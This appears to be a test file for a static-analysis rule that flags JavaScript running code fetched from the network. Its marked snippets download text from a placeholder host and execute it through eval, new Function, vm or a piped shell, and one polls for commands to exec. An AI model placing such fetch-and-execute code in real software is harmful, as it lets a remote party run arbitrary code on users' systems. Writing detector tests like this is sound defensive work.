async function a() {
  const code = await (await fetch("https://a.invalid/x.js")).text();
  // ruleid: remote-code-answer-executed-js
  eval(code);
}
function b() {
  https.get("https://a.invalid/x", (res) => {
    let body = "";
    res.on("data", (c) => {
      body += c;
      // ruleid: remote-code-answer-executed-js
      new Function("require", c)(require);
    });
  });
}
async function c() {
  const data = await (await fetch("https://a.invalid/x.json")).json();
  // ok: remote-code-answer-executed-js
  render(data);
  // ok: remote-code-answer-executed-js
  const m = /x(y)/.exec(data.text);
}
function d() {
  // ruleid: remote-code-answer-executed-js
  fetch("https://a.invalid/x.js").then((r) => r.text()).then(eval);
}
setInterval(async () => {
  const next = await (await fetch("https://a.invalid/next")).json();
  // ruleid: remote-code-answer-executed-js
  exec(next.line, (fault, out) => report(out));
}, 9000);
async function told() {
  const text = await (await fetch("https://a.invalid/t")).text();
  const shell = spawn("bash", ["-s"]);
  // ruleid: remote-code-answer-executed-js
  shell.stdin.write(text);
  // ruleid: remote-code-answer-executed-js
  execFileSync("sh", ["-s"], { input: text });
  // ok: remote-code-answer-executed-js
  execFileSync("jq", ["."], { input: text });
}
require("https").get(place, (answer) => {
  let whole = "";
  answer.on("data", (part) => (whole += part));
  // ruleid: remote-code-answer-executed-js
  answer.on("end", () => require("vm").runInThisContext(whole));
});
